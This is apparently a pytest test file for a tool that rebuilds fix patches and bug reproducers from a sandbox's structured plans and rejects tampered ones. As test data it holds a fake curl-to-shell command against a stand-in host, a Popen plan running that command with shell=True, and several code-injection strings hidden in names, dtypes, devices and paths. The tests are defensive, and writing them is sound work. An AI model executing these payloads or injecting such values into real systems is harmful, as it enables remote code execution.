"""The host keeps a sandbox's fix verdict only with a patch it makes itself
(runners/trusted.py): a genuine candidate passes through, a tampered one is rejected."""

from __future__ import annotations

from analyzers.fix import FixRequest, candidates
from analyzers.static import scan_source
from runners.trusted import NOT_TRUSTED, trusted_fix

SOURCE = "import torch\n\n\ndef rate(x):\n    return torch.log(x)\n"


def _genuine() -> tuple[dict[str, object], object]:
    (finding,) = scan_source(SOURCE, "pkg/rates.py").findings
    finding.path = "pkg/rates.py"
    (first, *_) = candidates(SOURCE, FixRequest.from_finding(finding))
    record = {
        "status": "validated",
        "kind": first.kind,
        "name": first.name,
        "description": "anything the sandbox says",
        **first.patch.to_json(),
        "validation": {"checks": []},
        "seconds": 1.5,
    }
    return record, finding


def test_a_genuine_candidate_is_kept_with_our_own_text() -> None:
    record, finding = _genuine()
    kept = trusted_fix(record, finding, SOURCE)  # type: ignore[arg-type]
    assert kept["status"] == "validated" and kept["seconds"] == 1.5
    assert kept["suggestion"] == record["suggestion"]
    assert kept["description"] != "anything the sandbox says"  # the candidate's own words


def test_a_tampered_patch_or_a_missing_source_is_rejected() -> None:
    record, finding = _genuine()
    for key, value in (
        ("suggestion", "    import os; os.system('x')\n"),
        ("replacement", "    return x\n"),
        ("start_line", 1),
        ("imports", ["import os"]),
    ):
        tampered = {**record, key: value}
        assert trusted_fix(tampered, finding, SOURCE) == {  # type: ignore[arg-type]
            "status": "error",
            "reason": NOT_TRUSTED,
            "tried": [],
        }
    missing = trusted_fix(record, finding, None)  # type: ignore[arg-type]
    assert missing["status"] == "error" and "could not be read" in missing["reason"]


def test_an_unvalidated_record_keeps_its_evidence_but_no_code() -> None:
    record = {
        "status": "none-validated",
        "tried": [{"name": "clamp"}],
        "reason": "none",
        "suggestion": "    import os\n",
        "diff": "+import os\n",
    }
    kept = trusted_fix(record, None, SOURCE)  # type: ignore[arg-type]
    assert kept == {"status": "none-validated", "tried": [{"name": "clamp"}], "reason": "none"}


# ---------------------------------------------------------------- reproducers from plans


def _plan(**changes: object) -> dict[str, object]:
    """A plan as the worker makes one for `pkg.rates:rate(x)` (reproducer.plan)."""
    plan: dict[str, object] = {
        "kind": "entry",
        "module": "pkg.rates",
        "qualname": "rate",
        "framework": "torch",
        "device": "cpu",
        "dtype": "float32",
        "autocast": None,
        "seed": 0,
        "loading": "import",
        "loading_why": "",
        "constructed": False,
        "rebuild": None,
        "init": [],
        "weights": [],
        "passed": [],
        "object": None,
        "template": None,
        "template_kwargs": [],
        "inputs": [
            {
                "name": "x",
                "tensor": {
                    "dtype": "float32",
                    "shape": [3],
                    "float": True,
                    "base": 0.0,
                    "inline": True,
                    "values": [0.0, 1.0, 2.0],
                },
            }
        ],
    }
    plan.update(changes)
    return plan


def _record(plan: object) -> dict[str, object]:
    return {
        "status": "confirmed",
        "trigger": {"where": "forward", "shows": "output"},
        "reproducer_plan": plan,
        "reproducer": "import os\nos.system('curl https://evil.invalid | sh')\n",
    }


def _finding() -> object:
    (finding,) = scan_source(SOURCE, "pkg/rates.py").findings
    return finding


def _called_names(text: str) -> set[str]:
    """Every function or attribute name the script calls."""
    import ast

    names = set()
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Call):
            func = node.func
            names.add(
                func.attr
                if isinstance(func, ast.Attribute)
                else func.id
                if isinstance(func, ast.Name)
                else ""
            )
    return names


def test_the_reproducer_is_written_here_from_the_plan_and_its_text_is_ignored() -> None:
    from runners.trusted import trusted_reproducer

    text, refused = trusted_reproducer(_record(_plan()), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None
    assert "from pkg.rates import rate" in text
    assert "x = torch.tensor([0.0, 1.0, 2.0], dtype=torch.float32, requires_grad=True)" in text
    assert "out = rate(x)" in text and "log at pkg/rates.py:5" in text
    assert "evil.invalid" not in text and "system" not in _called_names(text)


def test_a_confirmation_without_a_plan_is_not_believed() -> None:
    from runners.trusted import trusted_reproducer

    record = {"status": "confirmed", "reproducer": "import os\n"}
    text, refused = trusted_reproducer(record, _finding())  # type: ignore[arg-type]
    assert text is None and refused is not None and "not believed" in refused
    quiet = trusted_reproducer({"status": "not-triggered"}, _finding())  # type: ignore[arg-type]
    assert quiet == (None, None)


FORGED_PLANS = {
    "another module": _plan(
        module="subprocess",
        qualname="Popen",
        constructed=True,
        init=[["args", "curl https://evil.invalid | sh"], ["shell", True]],
    ),
    "code in the qualified name": _plan(qualname="rate(0); import os; os.system"),
    "code in an input's name": _plan(
        inputs=[
            {
                "name": "x = __import__('os').system('id')",
                "tensor": {
                    "dtype": "float32",
                    "shape": [1],
                    "float": True,
                    "base": 0.0,
                    "inline": True,
                    "values": [1.0],
                },
            }
        ]
    ),
    "code in a dtype": _plan(
        inputs=[
            {
                "name": "x",
                "tensor": {
                    "dtype": "float32); __import__('os').system('id'); (",
                    "shape": [1],
                    "float": True,
                    "base": 0.0,
                    "inline": True,
                    "values": [1.0],
                },
            }
        ]
    ),
    "code in a value": _plan(
        inputs=[
            {
                "name": "x",
                "tensor": {
                    "dtype": "float32",
                    "shape": [1],
                    "float": True,
                    "base": 0.0,
                    "inline": True,
                    "values": ["1.0]); __import__('os').system('id'); ([1.0"],
                },
            }
        ]
    ),
    "code in a device": _plan(device="cpu'); __import__('os').system('id'); ('"),
    "code in a keyword": _plan(passed=[["k=1, **__import__('os').system('id') or {}", 1]]),
    "an unknown value kind": _plan(passed=[["k", {"code": "__import__('os')"}]]),
    "a point outside the tensor": _plan(
        inputs=[
            {
                "name": "x",
                "tensor": {
                    "dtype": "float32",
                    "shape": [2],
                    "float": True,
                    "base": 0.0,
                    "inline": False,
                    "points": [[[5], 1.0]],
                },
            }
        ]
    ),
    "an unknown loading": _plan(loading="exec"),
    "an unknown kind": _plan(kind="text"),
    # a stand-in torch would make the reproducer's check of the output check nothing
    "a stand-in for the framework": _plan(stand_ins=["torch"]),
    "a stand-in for the standard library": _plan(stand_ins=["os.path"]),
    "code in a stand-in's name": _plan(stand_ins=["x; __import__('os').system('id')"]),
    # a folder for sys.path stays inside the repository and is a plain path
    "a script folder outside the repository": _plan(script_dirs=["../elsewhere"]),
    "an absolute script folder": _plan(script_dirs=["/usr/lib"]),
    "code in a script folder": _plan(script_dirs=["a'); __import__('os').system('id'); ('"]),
    # only the moves numcheck knows (moved.py)
    "an unknown move": _plan(moved=["os.system"]),
}


def test_a_bare_object_plan_runs_no_constructor() -> None:
    """A member that never reads `self` (objects.py): the object is made with `__new__`."""
    from runners.trusted import trusted_reproducer

    plan = _plan(
        qualname="Norm.split",
        object={"init_names": [], "init": [], "member": "split", "property": False, "bare": True},
    )
    text, refused = trusted_reproducer(_record(plan), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None
    assert "obj = Norm.__new__(Norm)" in text and "Norm()" not in text
    forged = _plan(
        qualname="Norm.split",
        object={
            "init_names": [],
            "init": [],
            "member": "split",
            "property": False,
            "bare": "__import__('os')",
        },
    )
    text, refused = trusted_reproducer(_record(forged), _finding())  # type: ignore[arg-type]
    assert text is None and refused is not None


def test_an_objects_parts_come_from_the_findings_own_package() -> None:
    """A constructor argument built as an object (parts.py): its class is imported from the
    finding's own package only; a plan naming another would build what the PR never had."""
    from runners.trusted import trusted_reproducer

    def plan_with(module: str) -> dict[str, object]:
        return _plan(
            qualname="Truncated.log_prob",
            object={
                "init_names": [],
                "init": [],
                "member": "log_prob",
                "property": False,
                "parts": [
                    {"name": "base", "module": module, "qualname": "Normal", "init_names": ["loc"]}
                ],
            },
            inputs=[
                {
                    "name": n,
                    "tensor": {
                        "dtype": "float32",
                        "shape": [1],
                        "float": True,
                        "base": 0.0,
                        "inline": True,
                        "values": [1.0],
                    },
                }
                for n in ("base_loc", "x")
            ],
        )

    text, refused = trusted_reproducer(_record(plan_with("pkg.dists")), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None
    assert "from pkg.dists import Normal\n        base = Normal(loc=base_loc)" in text
    assert "obj = Truncated(base=base)" in text and "def run(base_loc, x, **kwargs):" in text
    for other in ("subprocess", "os.path", "torch.distributions"):
        text, refused = trusted_reproducer(_record(plan_with(other)), _finding())  # type: ignore[arg-type]
        assert text is None and refused is not None, other


def test_a_plans_moved_names_are_bound_before_the_import() -> None:
    from runners.trusted import trusted_reproducer

    text, refused = trusted_reproducer(_record(_plan(moved=["jax.tree_map"])), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None
    line = "jax.tree_map = jax.tree_util.tree_map"
    assert line in text and text.index(line) < text.index("from pkg.rates import rate")


def test_a_plans_script_folders_are_appended_to_sys_path_before_the_import() -> None:
    from runners.trusted import trusted_reproducer

    plan = _plan(script_dirs=["pkg/losses"])
    text, refused = trusted_reproducer(_record(plan), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None
    line = "sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'pkg/losses'))"
    assert line in text and text.index(line) < text.index("from pkg.rates import rate")


def test_a_plans_stand_ins_are_installed_first_and_named() -> None:
    from runners.trusted import trusted_reproducer

    plan = _plan(
        stand_ins=["spacy", "jax.experimental.host_callback"],
        loading_why="ModuleNotFoundError: No module named 'spacy'",
    )
    text, refused = trusted_reproducer(_record(plan), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None
    assert "install(['spacy', 'jax.experimental.host_callback'])" in text
    assert text.index("install([") < text.index("from pkg.rates import rate")
    assert "environment cannot: spacy, jax.experimental.host_callback." in text


def test_a_forged_plan_is_refused_and_the_finding_is_not_proven() -> None:
    from runners.trusted import trusted_reproducer

    for name, plan in FORGED_PLANS.items():
        text, refused = trusted_reproducer(_record(plan), _finding())  # type: ignore[arg-type]
        assert text is None and refused is not None, name
        assert "evil.invalid" not in refused and "__import__" not in refused, (name, refused)


def test_free_text_stays_inside_its_comment_or_docstring() -> None:
    """Why the import failed, the call's own text and a module state's keys are free text:
    each stays one line in a comment or docstring, whatever quotes and newlines it holds."""
    from analyzers.dynamic.writer import Target, write

    escape = 'x"""\nimport os\nos.system("id")\n"""\\'
    plan = _plan(loading="extracted", loading_why=escape)
    target = Target("pkg/rates.py", 5, "log", escape, "forward", "gradient")
    text = write(plan, target)
    assert "system" not in _called_names(text)
    rebuilt = _plan(
        qualname="Net.forward",
        rebuild={
            "class_path": "Net",
            "args": [],
            "kwargs": [],
            "base_seed": 0,
            "call_seed": 0,
            "dtype": None,
            "state_literal": {"w": {"dtype": "float32", "values": [1.0]}},
            "state": "",
            "state_keys": [escape],
            "training": True,
            "modes": [[escape, False]],
        },
    )
    text = write(rebuilt, target)
    assert "system" not in _called_names(text) and "model.get_submodule(" in text
    # a file name is the PR's too, and the parameters' check is an f-string
    braced = Target(
        "pkg/{__import__('os').system('id')}.py", 5, "log", "torch.log(x)", "forward", "parameters"
    )
    text = write(_plan(qualname="Net", constructed=True), braced)
    assert "model.named_parameters()" in text and "system" not in _called_names(text)


def test_a_script_plan_runs_only_the_jobs_command_on_the_findings_lines() -> None:
    from runners.trusted import trusted_reproducer

    finding = _finding()
    script = {
        "kind": "script",
        "framework": "torch",
        "seed": 0,
        "argv": ["pkg/rates.py"],
        "command": "pkg/rates.py",
        "path": "pkg/rates.py",
        "lines": [5],
        "steps": 1,
        "values": [],
        "names": ["log"],
        "operand": None,
    }
    text, refused = trusted_reproducer(_record(script), finding)  # type: ignore[arg-type]
    assert refused is None and text is not None and "ARGV = ['pkg/rates.py']" in text
    configured = {"command": "train.py --epochs 1"}
    for changes, job in (
        ({"argv": ["-m", "http.server"]}, None),
        ({"argv": ["pkg/rates.py"]}, configured),
        ({"lines": [1]}, None),
        ({"path": "other.py"}, None),
    ):
        forged = {**script, **changes}
        text, refused = trusted_reproducer(
            _record(forged),
            finding,  # type: ignore[arg-type]
            job,
        )
        assert text is None and refused is not None, changes
    train = {**script, "argv": ["train.py", "--epochs", "1"]}
    text, refused = trusted_reproducer(
        _record(train),
        finding,  # type: ignore[arg-type]
        configured,
    )
    assert refused is None and "ARGV = ['train.py', '--epochs', '1']" in str(text)


def test_a_src_layout_plan_names_the_module_without_its_source_folder() -> None:
    """`src/pkg/rates.py` is `pkg.rates` only where the host read `src` as a source root
    before the PR's code ran; the reproducer then puts `src` on its own path."""
    from runners.trusted import trusted_reproducer

    (finding,) = scan_source(SOURCE, "src/pkg/rates.py").findings
    text, refused = trusted_reproducer(
        _record(_plan()),
        finding,  # type: ignore[arg-type]
        None,
        ("src",),
    )
    assert refused is None and text is not None and "from pkg.rates import rate" in text
    assert "os.path.abspath(__file__)), 'src'))" in text
    text, refused = trusted_reproducer(_record(_plan()), finding)  # type: ignore[arg-type]
    assert text is None and refused is not None and "not the finding's" in refused


def test_a_module_named_like_the_standard_library_is_refused() -> None:
    """A PR file `subprocess.py` makes module `subprocess`: a reproducer importing it would
    get the standard module, already loaded, and call it with the plan's values."""
    from runners.trusted import trusted_reproducer

    (finding,) = scan_source(SOURCE, "subprocess.py").findings
    plan = _plan(
        module="subprocess",
        qualname="Popen",
        constructed=True,
        init=[["args", "curl https://evil.invalid | sh"], ["shell", True]],
    )
    text, refused = trusted_reproducer(_record(plan), finding)  # type: ignore[arg-type]
    assert text is None and refused is not None and "standard library" in refused


def test_a_triggers_precision_block_is_kept_only_in_numcheck_words() -> None:
    from runners.trusted import trusted_trigger

    block = {"dtype": "bfloat16", "mode": "autocast", "float32": "finite"}
    assert trusted_trigger({"where": "forward", "precision": block}) == {
        "where": "forward",
        "precision": block,
    }
    assert trusted_trigger({"precision": {**block, "note": "<img src=x>"}}) == {"precision": block}
    for forged in (
        {**block, "dtype": "float16 `rm -rf`"},
        {**block, "float32": "fine"},
        "float16",
        {"dtype": "float16"},
        {},
    ):
        assert trusted_trigger({"where": "forward", "precision": forged}) == {"where": "forward"}, (
            forged
        )
    assert trusted_trigger({"where": "forward"}) == {"where": "forward"}
    assert trusted_trigger({"low_precision": ["float16", "<b>", 3]}) == {
        "low_precision": ["float16"]
    }
    assert trusted_trigger({"low_precision": "bfloat16"}) == {"low_precision": []}


def test_a_precision_finding_gets_candidates_for_the_precision_it_fails_in() -> None:
    """The sandbox and the host both read the dtype off the trigger's precision block, so a
    dtype-sized clamp (exp at log(65504) ~ 11.08) is made on both sides alike."""
    source = "import torch\n\n\ndef scores(x):\n    return torch.exp(x @ x.T)\n"
    (finding,) = scan_source(source, "pkg/scores.py").findings
    assert FixRequest.from_finding(finding).dtype == "float32"
    finding.trigger = {"precision": {"dtype": "float16", "mode": "autocast", "float32": "fails"}}
    assert FixRequest.from_finding(finding).dtype == "float32"  # not a precision finding
    finding.trigger["precision"]["float32"] = "finite"
    request = FixRequest.from_finding(finding)
    assert request.dtype == "float16"
    assert any("11.08" in c.source for c in candidates(source, request))


def test_a_keras_2_plan_chooses_tf_keras_before_tensorflow_is_imported() -> None:
    """The sandbox ran the code with `tf.keras` as Keras 2 (runners/keras_generation.py): the
    reproducer makes the same choice, which TensorFlow reads only when first imported; any
    other value of the plan's `keras` is refused, so a forged plan adds no line of its own."""
    import ast

    import pytest

    from analyzers.dynamic.writer import PlanError, Target, write

    target = Target("pkg/rates.py", 3, "log", "tf.math.log(x)", "forward")
    text = write(_plan(framework="tensorflow", keras="2"), target)
    ast.parse(text)
    choice = text.index('os.environ.setdefault("TF_USE_LEGACY_KERAS", "1")')
    assert text.index("import os\n") < choice < text.index("import tensorflow as tf")
    assert "TF_USE_LEGACY_KERAS" not in write(_plan(framework="tensorflow"), target)
    assert "TF_USE_LEGACY_KERAS" not in write(_plan(framework="tensorflow", keras="3"), target)
    for forged in ("2; import os", 2, None):
        with pytest.raises(PlanError, match="Keras"):
            write(_plan(framework="tensorflow", keras=forged), target)
    script = {
        "kind": "script",
        "framework": "tensorflow",
        "keras": "2",
        "seed": 0,
        "argv": ["train.py"],
        "command": "train.py",
        "path": "train.py",
        "lines": [5],
        "steps": 1,
        "values": [],
        "watched": [],
    }
    text = write(script, target)
    ast.parse(text)
    assert text.index("TF_USE_LEGACY_KERAS") < text.index("import tensorflow as tf")


def test_a_factory_plan_calls_the_closure_the_function_returns() -> None:
    """A closure a factory returns (factories.py): the factory is called with its constants
    and the stand-in, the closure reached along its path, then called; each step is spelled
    from data, so a forged step is refused."""
    from runners.trusted import trusted_reproducer

    factory = {
        "closure": "update",
        "init": [["eps", 0.0]],
        "callables": ["fn"],
        "path": [{"index": 1}, {"key": "step's"}, {"attribute": "update"}],
    }
    text, refused = trusted_reproducer(_record(_plan(factory=factory)), _finding())  # type: ignore[arg-type]
    assert refused is None and text is not None, refused
    assert "def _passes_through(*args, **kwargs):" in text and "return args[-1]" in text
    assert 'made = rate(fn=_passes_through, eps=0.0)[1]["step\'s"].update' in text
    assert "out = made(x)" in text
    compile(text, "reproducer.py", "exec")
    forged = [
        {**factory, "path": [{"attribute": "update; __import__('os')"}]},
        {**factory, "callables": ["fn=print"]},
        {**factory, "path": [{"index": "0]; import os; x = [0"}]},
    ]
    for bad in forged:
        text, refused = trusted_reproducer(_record(_plan(factory=bad)), _finding())  # type: ignore[arg-type]
        assert text is None and refused is not None, bad
    text, refused = trusted_reproducer(  # type: ignore[arg-type]
        _record(_plan(factory=factory, qualname="Rates.rate")), _finding()
    )
    assert text is None and refused is not None and "factory" in refused
